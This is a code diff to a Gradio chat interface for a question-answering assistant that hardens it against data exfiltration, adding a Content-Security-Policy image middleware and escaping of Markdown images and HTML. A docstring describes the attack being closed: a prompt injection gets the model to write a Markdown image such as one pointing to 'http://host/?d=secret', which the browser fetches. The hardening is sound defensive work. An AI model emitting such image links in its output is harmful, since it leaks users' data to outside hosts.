@@ -21,6 +21,7 @@ from pathlib import Path
 from typing import Any
 
 import gradio as gr
+from starlette.middleware import Middleware
 
 from .api import Assistant, QuestionError, clean_question
 from .config import Settings
@@ -61,6 +62,31 @@ APOLOGY = (
     "the rest of the page still works."
 )
 MARKER = re.compile(r"\[(\d+)\]")
+# Images only from the page's own server (its icons) or inline: nothing a Markdown image or an
+# injected tag names elsewhere is fetched, whichever text it came in. Sent as a response header:
+# Gradio's ``head=`` is added to the page by script, and Chromium ignored a policy put there.
+IMAGES_POLICY = "img-src 'self' data: blob:"
+
+
+class ImagesPolicy:
+    """ASGI middleware adding the ``IMAGES_POLICY`` Content-Security-Policy to every response."""
+
+    def __init__(self, app: Any) -> None:
+        self.app = app
+
+    async def __call__(self, scope: dict, receive: Any, send: Any) -> None:
+        if scope["type"] != "http":
+            await self.app(scope, receive, send)
+            return
+
+        async def with_policy(message: dict) -> None:
+            if message["type"] == "http.response.start":
+                headers = list(message.get("headers", []))
+                headers.append((b"content-security-policy", IMAGES_POLICY.encode()))
+                message = {**message, "headers": headers}
+            await send(message)
+
+        await self.app(scope, receive, with_policy)
 
 
 # --- what the page says about the index ---------------------------------------------------------
@@ -149,8 +175,22 @@ def _anchor(prefix: str, n: int) -> str:
     return f"{prefix}-{n}"
 
 
+def inert(text: str) -> str:
+    """Markdown that loads nothing: no images, no raw HTML.
+
+    ``![x](http://host/?d=secret)`` in a model's answer, a quoted passage or a user's message
+    made the browser fetch that URL as the answer streamed: a channel out for whatever a
+    prompt injection gets the model to write. Image syntax is shown as text, and so is any
+    HTML tag (the page's sanitizer keeps ``<img src=…>``); the page's Content-Security-Policy
+    refuses images from anywhere else as well (``ImagesPolicy``).
+    """
+    return text.replace("<", "&lt;").replace("![", "!\\[")
+
+
 def render_markers(text: str, prefix: str, citations: list[Citation] | None = None) -> str:
-    """``[n]`` markers as numbered badges linking to source ``n`` of the same answer."""
+    """``[n]`` markers as numbered badges linking to source ``n`` of the same answer (the
+    text made inert first: see ``inert``)."""
+    text = inert(text)
     headings = {c.n: c.heading() for c in citations or []}
 
     def badge(match: re.Match[str]) -> str:
@@ -259,8 +299,8 @@ def _echo(question: str) -> str:
     """The user's message as shown in the chat (long ones cut, with their length)."""
     question = question.strip()
     if len(question) <= ECHO_CHARS:
-        return question
-    return f"{question[:ECHO_CHARS].rstrip()}… ({len(question):,} characters)"
+        return inert(question)
+    return inert(f"{question[:ECHO_CHARS].rstrip()}… ({len(question):,} characters)")
 
 
 def _selected(value: Any) -> list[str] | None:
@@ -544,6 +584,7 @@ def launch_options(settings: Settings) -> dict[str, Any]:
         "ssr_mode": False,
         "theme": theme(),
         "css": load_css(),
+        "app_kwargs": {"middleware": [Middleware(ImagesPolicy)]},
     }
 
 
